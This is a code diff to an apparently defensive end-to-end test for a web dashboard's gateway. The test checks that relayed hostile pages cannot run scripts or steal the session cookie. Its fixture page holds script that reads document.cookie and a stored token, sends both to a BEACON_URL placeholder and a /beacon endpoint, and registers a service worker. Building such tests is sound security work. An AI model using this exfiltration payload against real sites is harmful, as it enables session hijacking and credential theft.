@@ -10,14 +10,15 @@ import { type Dashboard, skipReason, startDashboard } from './harness.js';
  * origin) to /beacon, and its answer tries to set Vigil's session cookie.
  */
 const HOSTILE_PAGE = `<!doctype html><title>hostile</title><script>
+  const from = '&from=' + encodeURIComponent(location.pathname);
   const report = {};
   try { report.cookie = document.cookie; } catch (e) { report.cookie = 'denied'; }
   try { report.token = localStorage.getItem('vigil.token'); } catch (e) { report.token = 'denied'; }
-  fetch('/beacon?ran=' + encodeURIComponent(JSON.stringify(report))).catch(() => {});
-  new Image().src = 'BEACON_URL?img=' + encodeURIComponent(JSON.stringify(report));
+  fetch('/beacon?ran=' + encodeURIComponent(JSON.stringify(report)) + from).catch(() => {});
+  new Image().src = 'BEACON_URL?img=' + encodeURIComponent(JSON.stringify(report)) + from;
   navigator.serviceWorker && navigator.serviceWorker.register('sw.js', { scope: '/' })
-    .then(() => { new Image().src = 'BEACON_URL?sw=registered'; })
-    .catch((e) => { new Image().src = 'BEACON_URL?sw=' + encodeURIComponent(String(e)); });
+    .then(() => { new Image().src = 'BEACON_URL?sw=registered' + from; })
+    .catch((e) => { new Image().src = 'BEACON_URL?sw=' + encodeURIComponent(String(e)) + from; });
 </script><p>hostile page</p>`;
 
 describe('a signed-in user opening gateway and capture links', { skip: skipReason() }, () => {
@@ -26,6 +27,8 @@ describe('a signed-in user opening gateway and capture links', { skip: skipReaso
   let upstreamBase = '';
   const beacons: string[] = [];
   const cookiesSeen: (string | undefined)[] = [];
+  /** Reports of pages other than the probe served directly (whose late reports may still arrive). */
+  const relayedBeacons = () => beacons.filter((beacon) => !beacon.includes('from=%2Fdirect%2F'));
 
   before(async () => {
     upstream = http.createServer((request, response) => {
@@ -64,6 +67,16 @@ describe('a signed-in user opening gateway and capture links', { skip: skipReaso
       const page = await context.newPage();
       await page.goto(`http://${upstreamBase}/direct/page`);
       await waitFor(() => beacons.some((b) => b.includes('ran=')), 'the direct page reports');
+      // Its service worker settles before the page goes: closing earlier aborts the registration,
+      // and the page reports that too.
+      await waitFor(
+        () => beacons.some((b) => b.includes('sw=')),
+        'the direct page reports its service worker',
+      );
+      assert.ok(
+        beacons.every((b) => b.includes('from=%2Fdirect%2F')),
+        `every report names the page it came from: ${beacons.join(', ')}`,
+      );
     } finally {
       await context.close();
     }
@@ -93,7 +106,7 @@ describe('a signed-in user opening gateway and capture links', { skip: skipReaso
       }
       // Give a script that did run every chance to report before looking.
       await page.waitForTimeout(500);
-      assert.deepEqual(beacons, [], 'no script of the relayed page ran');
+      assert.deepEqual(relayedBeacons(), [], 'no script of the relayed page ran');
 
       assert.ok(cookiesSeen.length > 0, 'the gateway reached the upstream');
       for (const cookie of cookiesSeen) {
@@ -124,7 +137,7 @@ describe('a signed-in user opening gateway and capture links', { skip: skipReaso
       await page.goto(`${dash.base}/app/b/${dash.bucket}/messages/${captures.data[0]!.uuid}`);
       await page.getByText('/evil', { exact: false }).first().waitFor();
       await page.waitForTimeout(200);
-      assert.deepEqual(beacons, []);
+      assert.deepEqual(relayedBeacons(), []);
     } finally {
       await context.close();
     }
